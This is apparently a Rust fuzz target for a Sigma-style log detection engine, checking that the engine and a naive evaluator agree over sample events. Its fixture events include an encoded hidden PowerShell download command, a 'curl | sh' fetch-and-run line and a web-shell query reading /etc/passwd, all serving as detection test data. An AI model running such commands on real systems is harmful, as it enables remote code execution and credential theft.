//! Any text as a rule file, read, linted, compiled and run over a few events: the engine and the naive evaluator agree.
//!
//! Behind a line `%%%` the input may bring an event of its own, a field a line as `name=value`, so that a pattern and the
//! value that it is looked for in can grow together.

#![no_main]

use std::sync::OnceLock;

use libfuzzer_sys::fuzz_target;
use vg_detect::engine::Engine;
use vg_detect::logsource::LogSources;
use vg_detect::naive::{self, RegexCache};
use vg_detect::sigma::ast::{LogSource, Rule};
use vg_detect::sigma::{LoadOptions, RuleSource, lint, load};
use vg_detect::variants_of;
use vg_model::{Record, Value};

#[path = "shared/memory.rs"]
mod memory;

use memory::{Known, batch_of};

/// Every rule also runs on a source without conditions, so that its own condition is always asked.
const ANY: &str = "[[kind]]\nname = \"any\"\nkeys = [\"Channel\", \"EventID\"]\n[[source]]\nproduct = \"any\"\n\
    [[source.variant]]\nname = \"any\"\nkind = \"any\"\n";

static SOURCES: OnceLock<LogSources> = OnceLock::new();
static EVENTS: OnceLock<Vec<Known>> = OnceLock::new();

/// Naive evaluation takes the product of tests and values; a file may bring far more rules than it is for.
const MOST_RULES: usize = 40;
const MOST_FIELDS: usize = 40;

fuzz_target!(|data: &[u8]| {
    let Ok(text) = std::str::from_utf8(data) else { return };
    let (text, own) = text.split_once("\n%%%\n").unwrap_or((text, ""));
    let source = RuleSource::Text { name: "fuzz.yml".into(), text: text.into() };
    let loaded = load(std::slice::from_ref(&source), &LoadOptions::default());
    let _ = lint(&[source], &LoadOptions::default());
    let named = loaded.rules.len() + loaded.correlations.len() + loaded.filters.len() + loaded.problems.len();
    assert!(loaded.documents == 0 || named + loaded.notes.len() > 0 || text.contains("action"), "a document is lost");

    let sources = SOURCES.get_or_init(sources);
    let mut rules: Vec<Rule> = loaded.rules.into_iter().take(MOST_RULES).collect();
    for index in 0..rules.len() {
        let logsource = LogSource { category: None, product: Some("any".into()), service: None };
        rules.push(Rule { logsource, ..rules[index].clone() });
    }
    let mut events = EVENTS.get_or_init(events).clone();
    let mut record = Record::default();
    for line in own.split('\n').take(MOST_FIELDS) {
        if let Some((name, value)) = line.split_once('=') {
            let null = value == "%null";
            record.push(name, if null { Value::Null } else { Value::Text(value.to_owned()) });
        }
    }
    events.extend(["any", "windows", "syslog"].map(|kind| Known { kind, record: record.clone() }));
    agree(&rules, sources, &events);
});

fn agree(rules: &[Rule], sources: &LogSources, events: &[Known]) {
    let engine = Engine::new(rules, sources);
    let batch = batch_of(events, engine.fields());
    let mut hits = Vec::new();
    engine.matcher().run(&batch, &mut hits);
    let mut ours: Vec<(u32, u32)> = hits.iter().map(|hit| (hit.event, hit.rule)).collect();
    ours.sort_unstable();
    let variants: Vec<_> = rules.iter().map(|rule| variants_of(rule, sources)).collect();
    let mut cache = RegexCache::default();
    let mut naive = Vec::new();
    for (number, event) in (0u32..).zip(events) {
        for (rule, variants) in (0u32..).zip(&variants) {
            let mut on_kind = variants.iter().filter(|variant| variant.kind == event.kind);
            if on_kind.any(|variant| naive::matches_with(&variant.condition, &event.record, &mut cache)) {
                naive.push((number, rule));
            }
        }
    }
    assert_eq!(ours, naive, "engine (left) and naive evaluator (right) differ: (event, rule)");
}

/// The embedded mapping, and one that takes everything. Aliases are left out: records here have native names only, and
/// the naive evaluator knows no others.
fn sources() -> LogSources {
    let mut sources = LogSources::default();
    let texts = [
        include_str!("../../library/logsources/kinds.toml"),
        include_str!("../../library/logsources/windows.toml"),
        include_str!("../../library/logsources/linux.toml"),
        include_str!("../../library/logsources/web.toml"),
        ANY,
    ];
    for text in texts {
        assert!(sources.add("fuzz", text).is_ok(), "a mapping is not valid");
    }
    sources
}

fn events() -> Vec<Known> {
    let known = |kind, fields: &[(&str, &str)]| {
        let mut record = Record::default();
        for (name, value) in fields {
            record.push(*name, Value::Text((*value).to_owned()));
        }
        Known { kind, record }
    };
    let process = [
        ("Channel", "Microsoft-Windows-Sysmon/Operational"),
        ("EventID", "1"),
        ("Image", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"),
        ("CommandLine", "powershell.exe -NoP -W hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A http://198.51.100.7/a"),
        ("ParentImage", r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"),
        ("User", r"CƠ-QUAN\nguyễn.thị.ẩn"),
        ("Hashes", "SHA256=00,IMPHASH=17B461A082950FC6332228572138B80C"),
        ("IntegrityLevel", "High"),
    ];
    let logon = [
        ("Channel", "Security"),
        ("EventID", "4624"),
        ("LogonType", "10"),
        ("IpAddress", "192.0.2.77"),
        ("TargetUserName", "Administrator"),
        ("SubjectUserName", "-"),
        ("ProcessId", "0x3e7"),
    ];
    let service = [
        ("Channel", "System"),
        ("EventID", "7045"),
        ("Provider_Name", "Service Control Manager"),
        ("ServiceName", "PSEXESVC"),
        ("ImagePath", r"%SystemRoot%\PSEXESVC.exe"),
    ];
    let access = [
        ("cs-method", "POST"),
        ("cs-uri", "/upload/x.php?cmd=..%2f..%2fetc/passwd"),
        ("cs-uri-stem", "/upload/x.php"),
        ("cs-uri-query", "cmd=..%2f..%2fetc/passwd"),
        ("c-ip", "2001:db8::7"),
        ("sc-status", "500"),
        ("cs-user-agent", "sqlmap/1.7"),
        ("time", "2024-02-29T23:59:60Z"),
    ];
    let audit = [
        ("type", "SYSCALL"),
        ("type", "EXECVE"),
        ("Image", "/usr/bin/curl"),
        ("CommandLine", "curl -s http://203.0.113.9/x.sh | sh"),
        ("a0", "curl"),
        ("a1", "-s"),
        ("uid", "0"),
    ];
    let syslog = [
        ("hostname", "máy-chủ"),
        ("program", "sshd"),
        ("message", "Failed password for invalid user admin from 203.0.113.5 port 4242 ssh2"),
        ("user", "admin"),
        ("src_ip", "203.0.113.5"),
    ];
    let mut events = vec![
        known("windows", &process),
        known("windows", &logon),
        known("windows", &service),
        known("web_access", &access),
        known("auditd", &audit),
        known("syslog", &syslog),
        known("any", &process),
        known("any", &logon),
        known("any", &syslog),
        known("any", &[]),
    ];
    // Odd key fields: none, two, a null.
    let mut odd = Record::default();
    odd.push("Channel", Value::Text("SECURITY".into()));
    odd.push("EventID", Value::Number("01".into()));
    odd.push("EventID", Value::Number("4624".into()));
    odd.push("Image", Value::Null);
    odd.push("CommandLine", Value::Text(String::new()));
    odd.push("Enabled", Value::Bool(true));
    events.push(Known { kind: "windows", record: odd.clone() });
    events.push(Known { kind: "any", record: odd });
    events
}
